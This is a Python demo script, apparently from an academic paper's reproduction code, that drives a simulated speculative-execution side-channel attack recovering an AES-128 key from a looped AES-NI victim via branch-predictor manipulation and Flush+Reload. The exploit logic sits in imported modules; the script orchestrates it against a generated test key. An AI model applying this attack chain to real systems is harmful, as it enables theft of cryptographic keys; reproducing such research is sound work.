"""Section 9 demo: extract an AES key through speculative early exits.

The victim is the Intel-IPP style looped AES-NI encryption (Listing 1)
behind an encryption oracle that post-processes ciphertexts through a
byte-indexed table (Listing 3).  The attack:

1. profiles the oracle and locates the per-iteration PHR values of the
   loop's back edge (Read PHR + Pathfinder);
2. plants a not-taken prediction at iteration 1 (Write PHT), flushes the
   round count (widening the speculation window) and the probe array;
3. recovers the transient two-round ciphertext via Flush+Reload;
4. feeds a handful of chosen plaintexts through the differential key
   recovery, yielding the full AES-128 key.

Run:  python examples/aes_key_extraction.py
"""

import time

from repro.aes import AesAttackSpec, build_attack
from repro.utils.rng import DeterministicRng


def main() -> None:
    rng = DeterministicRng(0x5EC2E7)
    secret_key = rng.bytes(16)
    attack = build_attack(AesAttackSpec(key=secret_key,
                                        rng_seed=rng.fork(1).seed))

    print("victim: Intel-IPP style looped AES-128 (10 rounds)")
    print(f"secret key (hidden from attacker): {secret_key.hex()}")
    print()

    iteration_phr = attack.profile()
    print(f"profiled loop iterations: {sorted(iteration_phr)} "
          "(per-iteration PHR values recovered via Pathfinder)")

    plaintext = rng.bytes(16)
    print()
    print("speculative early-exit leaks (reduced-round ciphertexts):")
    for exit_iteration in (1, 3, 6, 9):
        leak = attack.leak_reduced_round(plaintext, exit_iteration)
        truth = attack.ground_truth_rrc(plaintext, exit_iteration)
        status = "OK" if bytes(leak.recovered) == truth else "MISMATCH"
        print(f"  exit@{exit_iteration}: {bytes(leak.recovered).hex()}  "
              f"[{status}]")

    print()
    print("running differential key recovery from iteration-1 exits ...")
    start = time.time()
    recovered = attack.recover_key()
    elapsed = time.time() - start
    print(f"recovered key: {recovered.hex()}")
    print(f"actual key   : {secret_key.hex()}")
    print(f"MATCH: {recovered == secret_key}  ({elapsed:.2f}s)")


if __name__ == "__main__":
    main()
